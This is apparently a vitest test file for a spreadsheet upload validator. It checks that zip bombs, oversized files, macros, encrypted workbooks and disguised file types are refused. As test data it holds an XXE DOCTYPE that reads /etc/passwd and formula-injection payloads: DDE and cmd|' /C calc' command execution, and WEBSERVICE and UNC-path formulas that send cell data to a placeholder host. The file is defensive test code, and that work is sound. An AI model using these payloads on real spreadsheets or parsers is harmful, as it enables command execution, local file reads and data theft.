import { expect, test } from 'vitest';
import { HEADINGS, refusalOf } from './villages.ts';
import { type CellUnderTest, workbook } from './workbook.ts';
import { zipFile } from './zip-file.ts';

const ROW: CellUnderTest[] = ['张小明', null, '2015-03-07', 1];
const TABLE = [{ rows: [HEADINGS, ROW] }];
const withPart = (name: string, content: string | Buffer = '<a/>') => workbook(TABLE, [{ name, content }]);
const withFormula = (formula: string) =>
  workbook([{ rows: [HEADINGS, ['张小明', null, '2015-03-07', { xml: `><f>${formula}</f>` }]] }]);
/** Seconds until a file is refused; the bound of the project is 2, and a test machine may be busy. */
const PATIENCE = 10_000;

test(
  'archives that grow out of proportion, lie about sizes, overlap or nest are refused',
  async () => {
    const huge = Buffer.alloc(16 * 1024 * 1024, ' ');
    expect(await refusalOf(withPart('xl/sharedStrings.xml', huge))).toBe('ZIP_BOMB');
    const liar = { name: 'xl/worksheets/sheet1.xml', content: huge, claims: 1000 };
    expect(await refusalOf(workbook(TABLE, [liar]))).toBe('ZIP_BOMB');
    expect(await refusalOf(zipFile([{ name: 'a.zip', content: zipFile([{ name: 'b.zip', content: 'x' }]) }]))).toBe(
      'NOT_A_TABLE_FILE',
    );
    const file = workbook(TABLE);
    const [first, second] = [file.indexOf('PK\x01\x02'), file.indexOf('PK\x01\x02', file.indexOf('PK\x01\x02') + 4)];
    file.writeUInt32LE(file.readUInt32LE(first + 42), second + 42);
    expect(await refusalOf(file)).toBe('ZIP_BOMB');
  },
  PATIENCE,
);

test('a million rows, 16,384 columns and 33 MB are refused before they are read', async () => {
  const rows = '<row><c><v>1</v></c></row>'.repeat(1_000_000);
  const content = `<worksheet><sheetData>${rows}</sheetData></worksheet>`;
  const many = workbook([{ rows: [] }], [{ name: 'xl/worksheets/sheet1.xml', content, isStored: true }]);
  expect(await refusalOf(many)).toBe('TOO_MANY_ROWS');
  const wide = Array.from({ length: 16_384 }, (_, at) => `列${at}`);
  expect(await refusalOf(workbook([{ rows: [wide, ROW] }]))).toBe('TOO_MANY_COLUMNS');
  expect(await refusalOf(workbook([{ rows: [HEADINGS, ROW, [...ROW, ...wide]] }]))).toBe('TOO_MANY_COLUMNS');
  expect(await refusalOf(Buffer.alloc(33 * 1024 * 1024, 'a'))).toBe('TOO_LARGE');
  expect(await refusalOf(Buffer.from(`姓名,出生日期\n${'张,2015-03-07\n'.repeat(1_000_000)}`))).toBe('TOO_MANY_ROWS');
  expect(await refusalOf(Buffer.from(wide.join()))).toBe('TOO_MANY_COLUMNS');
}, 60_000);

test('definitions in the XML are refused wherever they stand', async () => {
  const doctype = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>';
  for (const name of [
    'xl/workbook.xml',
    'xl/sharedStrings.xml',
    'xl/worksheets/sheet1.xml',
    '[Content_Types].xml',
    'xl/styles.xml',
  ])
    expect([name, await refusalOf(withPart(name, `<?xml version="1.0"?>${doctype}<a>&a;</a>`))]).toEqual([
      name,
      'DANGEROUS_XML',
    ]);
  const wide = Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${doctype}<a/>`, 'utf16le');
  expect(await refusalOf(withPart('xl/workbook.xml', wide))).toBe('DANGEROUS_XML');
});

test('macros, encryption, outside links and connections are refused', async () => {
  expect(await refusalOf(withPart('xl/vbaProject.bin'))).toBe('MACROS');
  expect(await refusalOf(withPart('xl/macrosheets/sheet1.xml'))).toBe('MACROS');
  expect(
    await refusalOf(
      withPart(
        '[Content_Types].xml',
        '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
      ),
    ),
  ).toBe('MACROS');
  expect(await refusalOf(workbook(TABLE, [{ name: 'x', content: 'x', flags: 1 }]))).toBe('ENCRYPTED');
  expect(await refusalOf(withPart('xl/externalLinks/externalLink1.xml'))).toBe('EXTERNAL_LINKS');
  expect(await refusalOf(withPart('xl/connections.xml'))).toBe('EXTERNAL_LINKS');
});

test('formulas that run, fetch or send refuse the file; others only their cell', async () => {
  const harmful = [
    `cmd|' /C calc'!A0`,
    `MSEXCEL|'\\..\\cmd.exe'!A1`,
    'DDE("cmd","/C calc","x")',
    'WEBSERVICE("https://x.invalid/"&amp;A2)',
    'HYPERLINK("https://x.invalid","点我")',
    '[1]Sheet1!A1',
    "'\\\\x.invalid\\[b.xlsx]S'!A1",
    'IMPORTXML(A1,"//a")',
  ];
  for (const formula of harmful)
    expect([formula, await refusalOf(withFormula(formula))]).toEqual([formula, 'EXTERNAL_LINKS']);
  expect(await refusalOf(withFormula('SUM(A1:A3)'))).toBe(null);
  for (const text of ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK(""x"")'])
    expect(await refusalOf(Buffer.from(`姓名,出生日期\n"${text}",2015-03-07`))).toBe('EXTERNAL_LINKS');
});

test('other files under the name of a workbook are refused for what they are', async () => {
  const others: [string, Buffer][] = [
    [' PDF 文件', Buffer.from('%PDF-1.7\n%âãÏÓ')],
    ['图片', Buffer.from('89504e470d0a1a0a0000', 'hex')],
    [' Word 文档', zipFile([{ name: 'word/document.xml', content: '<w/>' }])],
    [
      ' OpenDocument 文件(.ods 等),请另存为 .xlsx',
      zipFile([
        { name: 'mimetype', content: 'x' },
        { name: 'content.xml', content: '<o/>' },
      ]),
    ],
    ['普通压缩包', zipFile([{ name: 'a.txt', content: 'a' }])],
    ['二进制工作簿(.xlsb),请另存为 .xlsx', zipFile([{ name: 'xl/workbook.bin', content: 'a' }])],
    ['压缩包', Buffer.from('526172211a0700', 'hex')],
  ];
  const { readAll } = await import('./villages.ts');
  for (const [what, file] of others)
    await expect(readAll(file)).rejects.toThrow(`这个文件其实是${what},不是表格文件。`);
});

test('a workbook that was cut off or changed is said to be damaged', async () => {
  const file = workbook(TABLE);
  expect(await refusalOf(file.subarray(0, file.length - 30))).toBe('DAMAGED');
  const changed = Buffer.from(file);
  const sheet = changed.indexOf('xl/worksheets/sheet1.xml') + 24;
  changed.writeUInt8((changed[sheet + 20] as number) ^ 0xff, sheet + 20);
  expect(await refusalOf(changed)).toBe('DAMAGED');
});
